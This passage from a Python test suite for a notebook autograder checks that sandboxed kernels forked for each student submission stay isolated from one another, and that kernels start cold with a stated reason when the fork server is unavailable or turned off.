        outputs[student_id] = "".join(o.get("text", "") for cell in nb.cells for o in cell.get("outputs", []))
    return results, outputs


@needs_sandbox
def test_what_a_submission_leaves_behind_never_reaches_the_next(graded_in_turn):
    results, outputs = graded_in_turn
    first, second = results["a-leaves-traces"], results["b-graded-after"]
    assert first.execution.kernel_start == second.execution.kernel_start == FORKED
    started = {student: float(re.search(r"started (\S+)", text).group(1)) for student, text in outputs.items()}
    assert started["a-leaves-traces"] < started["b-graded-after"]  # one worker: in this order
    draws = {student: re.search(r"draws (\S+) (\S+)", text).groups() for student, text in outputs.items()}
    # seeded afresh, as a kernel started alone would be, not both from the state they were forked with
    assert set(draws["a-leaves-traces"]).isdisjoint(draws["b-graded-after"]), draws
    assert "SEEN True False False False False []" in outputs["b-graded-after"], outputs["b-graded-after"]
    assert (second.status, second.points) == (Status.GRADED, second.max_points)
    assert our_processes("sleep 424") == []  # and the daemons are gone for good


def test_a_kernel_starts_cold_and_says_why_where_no_fork_server_can_serve_it(tmp_path):
    from autograder.grading.results import Execution
    from autograder.outputs import report
    from autograder.sandbox import fork_server

    assert fork_server.worker_fork_server(tmp_path / "k", threads=1, limits=Limits()) is None
    assert fork_server.fork_server_problem() == f"the kernel's folder {tmp_path / 'k'} is outside the worker's folder "\
                                      f"{fork_server.worker_root()}"
    forked, cold = (SubmissionResult("a", LAB), SubmissionResult("b", LAB))
    forked.execution, cold.execution = Execution(kernel_start=FORKED), Execution(kernel_start="cold: no bubblewrap")
    note = report.kernel_starts_note([forked, cold])
    assert "1 forked from the worker&#x27;s fork server; 1 cold: no bubblewrap" in note and 'class="warn"' in note


# CI grades from a clean clone under /tmp, where each kernel's fresh /tmp would hide the
# virtual environment and labutils unless the fork server binds them back: grade from such a copy.
CHECKOUT_UNDER_TMP = """\
import json, sys
from pathlib import Path
import labutils
from autograder.pipeline.run import grade
from autograder.sandbox.bubblewrap import Limits
assert labutils.__file__.startswith(sys.argv[1]), labutils.__file__
[result] = grade(Path(sys.argv[2]), Path(sys.argv[3]), workers=1, timeout=5, limits=Limits(wall_seconds=60))
print(json.dumps([result.execution.kernel_start, result.status.value, result.points, result.max_points]))
"""


@needs_sandbox
def test_kernels_forked_for_a_checkout_under_tmp_see_its_labutils(tmp_path):
    import shutil
    import subprocess
    import sys

    assert str(tmp_path).startswith("/tmp/")
    checkout = tmp_path / "checkout"
    shutil.copytree(ROOT / "labutils", checkout / "labutils", ignore=shutil.ignore_patterns("__pycache__"))
    write_submission(tmp_path / "submitted", "student", LAB, nbformat.read(SOLUTION_FILE, as_version=4))
    env = {**os.environ, "PYTHONPATH": str(checkout)}
    done = subprocess.run([sys.executable, "-c", CHECKOUT_UNDER_TMP, str(checkout), str(tmp_path / "submitted"),
                           str(tmp_path / "out")], env=env, cwd=checkout, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    kernel_start, status, points, max_points = json.loads(done.stdout.strip().splitlines()[-1])
    assert (kernel_start, status, points) == (FORKED, Status.GRADED.value, max_points)


GRADE_ONE = """\
import json, sys
from pathlib import Path
from autograder.pipeline.run import grade
from autograder.sandbox.bubblewrap import Limits
[result] = grade(Path(sys.argv[1]), Path(sys.argv[2]), workers=1, timeout=5, limits=Limits(wall_seconds=60))
print(json.dumps([result.execution.kernel_start, result.status.value, result.points, result.max_points]))
"""


def test_where_the_fork_server_is_turned_off_kernels_start_cold_and_grade_the_same(tmp_path):
    import subprocess
    import sys

    # In a process of its own: workers take their environment from the process that starts them.
    write_submission(tmp_path / "submitted", "student", LAB, nbformat.read(SOLUTION_FILE, as_version=4))
    done = subprocess.run([sys.executable, "-c", GRADE_ONE, str(tmp_path / "submitted"), str(tmp_path / "out")],
                          env={**os.environ, "NNLABS_FORK_SERVER": "0"}, cwd=ROOT, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    kernel_start, status, points, max_points = json.loads(done.stdout.strip().splitlines()[-1])
    assert kernel_start == "cold: the fork server is turned off (NNLABS_FORK_SERVER=0)"
    assert (status, points) == (Status.GRADED.value, max_points)
